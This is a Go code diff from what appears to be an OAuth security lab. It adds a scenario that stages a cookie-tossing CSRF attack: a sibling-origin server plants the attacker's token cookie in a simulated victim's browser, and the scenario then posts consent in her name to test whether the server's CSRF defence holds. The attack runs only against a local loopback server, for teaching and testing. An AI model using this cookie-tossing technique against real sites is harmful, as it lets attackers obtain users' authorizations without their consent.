@@ -54,16 +54,8 @@ func mustHost(raw string) string {
 // bob from another address: guessing is throttled, the user is not locked
 // out.
 func runPasswordGuessing(ctx context.Context, r *run) (Outcome, *Outcome, error) {
-	host, _, err := net.SplitHostPort(mustHost(r.env.AuthServer))
-	if err != nil {
+	if _, err := r.loopbackHost(); err != nil {
 		return Outcome{}, nil, err
-	}
-	ip := net.ParseIP(host)
-	if host == "localhost" {
-		ip = net.IPv4(127, 0, 0, 1)
-	}
-	if ip == nil || !ip.IsLoopback() {
-		return Outcome{}, nil, fmt.Errorf("this scenario acts from two loopback addresses, so it needs the authorization server on loopback (here %s)", host)
 	}
 	// 127.0.0.0/8 is all this machine's: the attacker and the real user get
 	// addresses of their own, and the learner's browser (127.0.0.1) is
@@ -121,4 +113,109 @@ func (r *run) browserFrom(actor, ip string) *browser {
 	b.http.Jar = jar
 	b.http.Transport = recording{tape: r.tape, actor: actor, base: &http.Transport{DialContext: dialer.DialContext}}
 	return b
+}
+
+// loopbackHost returns the authorization server's host name when it runs
+// on this machine (the scenarios that need a second address or a sibling
+// origin can only stage those here).
+func (r *run) loopbackHost() (string, error) {
+	host, _, err := net.SplitHostPort(mustHost(r.env.AuthServer))
+	if err != nil {
+		return "", err
+	}
+	ip := net.ParseIP(host)
+	if host == "localhost" {
+		ip = net.IPv4(127, 0, 0, 1)
+	}
+	if ip == nil || !ip.IsLoopback() {
+		return "", fmt.Errorf("this scenario needs the authorization server on loopback (here %s)", host)
+	}
+	return host, nil
+}
+
+// runCookieTossing plants the attacker's own CSRF cookie in Alice's
+// browser from a sibling origin (same host, another port: browsers ignore
+// the port when they send cookies), then posts Allow on the consent page
+// for the attacker's app with the attacker's matching token. A plain
+// double-submit check compares the cookie with the form and is fooled; a
+// token bound to Alice's session is not.
+func runCookieTossing(ctx context.Context, r *run) (Outcome, *Outcome, error) {
+	host, err := r.loopbackHost()
+	if err != nil {
+		return Outcome{}, nil, err
+	}
+	app, err := r.labClient(ctx, attackerClient)
+	if err != nil {
+		return Outcome{}, nil, err
+	}
+	// The attacker's own visit: a cookie and the form token that goes with it.
+	attacker := r.browser("attacker (own visit)")
+	own, err := attacker.get(ctx, r.env.AuthServer+"/login")
+	if err != nil {
+		return Outcome{}, nil, err
+	}
+	ownForm, ok := formAfter(own.body, `action="/login"`)
+	if !ok {
+		return Outcome{}, nil, fmt.Errorf("no sign-in form (status %d)", own.status)
+	}
+	asURL, _ := url.Parse(r.env.AuthServer)
+	tossed := attacker.http.Jar.Cookies(asURL)
+
+	// The sibling origin that sets those cookies in whoever visits it.
+	ln, err := net.Listen("tcp", net.JoinHostPort(host, "0"))
+	if err != nil {
+		return Outcome{}, nil, err
+	}
+	srv := &http.Server{ReadHeaderTimeout: time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		for _, c := range tossed {
+			http.SetCookie(w, &http.Cookie{Name: c.Name, Value: c.Value, Path: "/"})
+		}
+		_, _ = w.Write([]byte("cookies planted"))
+	})}
+	go func() { _ = srv.Serve(ln) }()
+	defer srv.Close()
+	_, port, _ := net.SplitHostPort(ln.Addr().String())
+	sibling := "http://" + net.JoinHostPort(host, port)
+
+	// Alice, signed in, on the consent page for the attacker's app (the
+	// attacker sent her the authorization link).
+	alice := r.browser("Alice's browser")
+	p, err := alice.follow(ctx, r.env.AuthServer+"/authorize?"+authorizeQuery(app, "tracks:read", rand.Text(), newPKCE()).Encode())
+	if err != nil {
+		return Outcome{}, nil, err
+	}
+	login, ok := formAfter(p.body, `action="/login"`)
+	if !ok {
+		return Outcome{}, nil, fmt.Errorf("no sign-in form (status %d)", p.status)
+	}
+	login.Set("username", contract.Alice.Username)
+	login.Set("password", contract.Alice.Password)
+	if p, err = alice.postForm(ctx, r.env.AuthServer+"/login", login, nil); err != nil {
+		return Outcome{}, nil, err
+	}
+	if loc := p.location(); loc != nil {
+		if p, err = alice.follow(ctx, loc.String()); err != nil {
+			return Outcome{}, nil, err
+		}
+	}
+	consent, ok := formAfter(p.body, `action="/consent"`)
+	if !ok {
+		return Outcome{}, nil, fmt.Errorf("no consent page for the attacker's app (status %d): did Alice allow it already? Revoke it on the authorization server's account page", p.status)
+	}
+	// Alice visits the attacker's sibling page; then that page posts the
+	// consent form in her browser with the attacker's token.
+	if _, err := alice.get(ctx, sibling+"/"); err != nil {
+		return Outcome{}, nil, err
+	}
+	consent.Set("csrf_token", ownForm.Get("csrf_token"))
+	consent.Set("decision", "approve")
+	res, err := alice.postForm(ctx, r.env.AuthServer+"/consent", consent, nil)
+	if err != nil {
+		return Outcome{}, nil, err
+	}
+	naiveOut := naive(true, "A double-submit check only compares the form's token with the cookie, and the attacker planted both: it would have let the post through.")
+	if loc := res.location(); loc != nil && loc.Query().Get("code") != "" {
+		return r.succeeded(res.status, "The consent was posted in Alice's name: a code for the attacker's app went to "+loc.Host+"."), naiveOut, nil
+	}
+	return r.refused(res.status, "", "The planted cookie came with the attacker's token, but the server's token is bound to Alice's own session, which the attacker cannot compute: the post was refused and nothing was granted."), naiveOut, nil
 }
